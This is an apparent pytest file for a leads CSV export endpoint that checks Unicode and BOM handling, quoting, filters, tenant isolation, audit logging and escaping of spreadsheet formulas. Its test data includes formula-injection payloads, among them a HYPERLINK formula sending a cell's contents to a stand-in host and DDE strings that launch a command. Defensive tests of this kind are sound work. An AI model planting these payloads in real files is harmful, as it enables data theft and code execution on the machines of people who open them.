"""`GET /api/v1/leads/export.csv`: a file Excel opens right (UTF-8 with a BOM: Arabic, right-to-left marks, emoji,
French), fields quoted properly, no cell a spreadsheet would run as a formula, the list's filters, the audit log."""

from __future__ import annotations

import csv
import io
import json

import pytest
from sqlalchemy import text

from jasping.conversations.models import Conversation
from jasping.db import get_engine, session_scope
from jasping.leads.export import safe_cell
from jasping.leads.service import record_lead

ARABIC = "سلمى الإدريسي"
RTL_MIXED = "\u200fمكتب Riad 12\u200f"  # right-to-left marks around mixed text
EMOJI = "Zoé 🌸👩🏽‍💻 Lefèvre"
FORMULAS = {
    "eq": '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "plus": "+1+cmd|' /C calc'!A0",
    "minus": "-2+3",
    "at": "@SUM(1,2)",
    "tab": "\t=1+1",
    "cr": "\r=1+1",
}
TRICKY = 'line one\nline "two", with a comma; and ; semicolons'


def _capture(client, org, agent: dict, **data) -> str:
    r = client.post(f"/api/v1/widget/{agent['public_key']}/sessions", json={})
    with session_scope(org.id) as s:
        conversation = s.get(Conversation, r.json()["conversation_id"])
        kind = data.pop("kind", "lead")
        return record_lead(s, conversation=conversation, data=data, consent_text="OK to contact", kind=kind).id


def _rows(response) -> list[dict]:
    assert response.status_code == 200, response.text
    assert response.content.startswith(b"\xef\xbb\xbf")  # the BOM Excel needs to read UTF-8
    return list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"), newline="")))


@pytest.fixture
def shop(client, make_org):  # noqa: ANN201
    org = make_org("Riad")
    assert org.client.patch("/api/v1/organization", json={"country": "MA"}).status_code == 200
    agent = org.post("/api/v1/agents", json={"name": "Amal", "languages": ["ar", "fr"]}).json()
    return org, agent


def test_unicode_quoting_and_formula_injection(client, shop) -> None:
    org, agent = shop
    arabic = _capture(client, org, agent, name=ARABIC, email="salma@example.ma", phone="0661234567", consent=True,
                      language="ar", custom={"note": RTL_MIXED, "message": TRICKY})  # fmt: skip
    emoji = _capture(client, org, agent, name=EMOJI, email="zoe@example.fr", custom=dict(FORMULAS))
    evil = _capture(client, org, agent, name="=cmd|' /C calc'!A0", email="evil@example.com", custom={"note": "@x"})

    r = org.get("/api/v1/leads/export.csv")
    assert r.headers["content-type"] == "text/csv; charset=utf-8"
    assert r.headers["content-disposition"].startswith('attachment; filename="leads-')
    assert b"\r\n" in r.content  # CRLF, as spreadsheets expect
    rows = {row["id"]: row for row in _rows(r)}
    header = next(csv.reader(io.StringIO(r.content.decode("utf-8-sig"))))
    assert header[:8] == ["id", "agent_id", "conversation_id", "kind", "status", "name", "email", "phone"]
    assert header[-8:] == [f"custom.{n}" for n in sorted([*FORMULAS, "message", "note"])]
    assert list(rows) == [evil, emoji, arabic]  # newest first

    a = rows[arabic]
    assert a["name"] == ARABIC and a["custom.note"] == RTL_MIXED and a["custom.message"] == TRICKY
    assert a["phone"] == "'+212661234567" and a["consent"] == "yes" and a["language"] == "ar"
    assert a["custom.eq"] == "" and a["updated_at"] == ""
    e = rows[emoji]
    assert e["name"] == EMOJI and e["consent"] == "no"
    for name, value in FORMULAS.items():
        assert e[f"custom.{name}"] == "'" + value, name  # shown as text, never run
    assert rows[evil]["name"] == "'=cmd|' /C calc'!A0" and rows[evil]["custom.note"] == "'@x"
    assert rows[evil]["email"] == "evil@example.com"  # ordinary values are left alone


def test_the_list_filters_apply_and_bad_ones_are_422(client, shop, make_org) -> None:
    org, agent = shop
    other_agent = org.post("/api/v1/agents", json={"name": "Omar"}).json()
    lead = _capture(client, org, agent, email="a@example.org")
    callback = _capture(client, org, agent, phone="+212612345678", kind="callback")
    elsewhere = _capture(client, org, other_agent, email="b@example.org")

    def ids(**params) -> list[str]:
        return [row["id"] for row in _rows(org.get("/api/v1/leads/export.csv", params=params))]

    assert ids() == [elsewhere, callback, lead]
    assert ids(agent_id=agent["id"]) == [callback, lead]
    assert ids(kind="callback") == [callback]
    assert ids(status="closed") == []
    listed = org.get("/api/v1/leads", params={"kind": "callback", "agent_id": agent["id"]}).json()["leads"]
    assert [x["id"] for x in listed] == [callback]  # the same filters as the list
    created = org.get(f"/api/v1/leads/{lead}").json()["created_at"]
    assert ids(created_to=created) == [] and lead in ids(created_from=created)
    assert ids(created_from="2999-01-01T00:00:00") == []
    for bad in ({"status": "won"}, {"kind": "x"}, {"created_from": "yesterday"}, {"agent_id": "a" * 41}):
        assert org.get("/api/v1/leads/export.csv", params=bad).status_code == 422, bad
        assert org.get("/api/v1/leads", params=bad).status_code == 422, bad

    stranger = make_org("Other")
    assert _rows(stranger.get("/api/v1/leads/export.csv")) == []  # another organization's leads never show
    only_header = stranger.get("/api/v1/leads/export.csv").content.decode("utf-8-sig")
    assert only_header.startswith("id,agent_id,") and only_header.count("\r\n") == 1

    viewer = org.post("/api/v1/api-keys", json={"name": "read", "role": "viewer"}).json()["secret"]
    r = client.get("/api/v1/leads/export.csv", headers={"Authorization": f"Bearer {viewer}"})
    assert len(_rows(r)) == 3
    with get_engine().connect() as conn:
        exports = conn.execute(text("SELECT org_id, detail FROM audit_events WHERE action = 'lead.export'")).all()
    assert (org.id, 3) in [(o, json.loads(d)["rows"]) for o, d in exports]
    assert any(json.loads(d)["kind"] == "callback" for _, d in exports)


def test_safe_cell() -> None:
    assert safe_cell(None) == "" and safe_cell(True) == "yes" and safe_cell(3) == "3"
    assert safe_cell("-") == "'-" and safe_cell("a=b") == "a=b" and safe_cell(" =1") == " =1"
    assert safe_cell({"a": 1}) == "{'a': 1}"
